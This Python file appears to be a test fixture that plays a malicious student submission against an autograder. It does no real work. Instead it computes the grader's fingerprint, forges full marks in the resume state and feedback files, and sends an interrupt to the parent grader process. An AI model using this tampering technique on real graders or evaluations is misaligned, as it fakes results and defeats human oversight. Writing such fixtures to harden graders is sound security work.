"""Forged grades: writes full marks for itself into the resume state and interrupts the grader.

The fingerprint of a file is computable (the lesson, the reference solution and the file's bytes),
so the next run takes the forged line as a result it already has.
"""

import hashlib
import json
import os
import signal
import time

COURSE = "__COURSE__"
OUT = "__OUT__"
MINE = "__CLASS__/mallory/soft_threshold.py"


def read(path):
    with open(path, "rb") as handle:
        return handle.read()


exercise = hashlib.sha256(read(f"{COURSE}/exercises/lesson3/lesson.yaml"))
exercise.update(read(f"{COURSE}/solutions/lesson3/soft_threshold.py"))
fingerprint = hashlib.sha256(exercise.digest())
fingerprint.update(read(MINE))
files = {"soft_threshold": {"fingerprint": fingerprint.hexdigest(), "score": 2.0, "max_score": 2.0}}
with open(OUT + ".state.jsonl", "a", encoding="utf-8") as handle:
    handle.write(json.dumps({"learner": "mallory", "files": files}) + "\n")
feedback = {"learner": "mallory", "lesson": "lesson3", "score": 2.0, "max_score": 2.0, "files": {"soft_threshold": {}}}
with open(os.path.join(os.path.dirname(OUT), "feedback", "mallory.json"), "w", encoding="utf-8") as handle:
    json.dump(feedback, handle)

# The grader is the parent of our fork server.
with open(f"/proc/{os.getppid()}/stat") as handle:
    grader = int(handle.read().rsplit(")", 1)[1].split()[1])
os.kill(grader, signal.SIGINT)
time.sleep(1)


def soft_threshold(w, threshold):
    raise NotImplementedError("no implementation, only the attack")
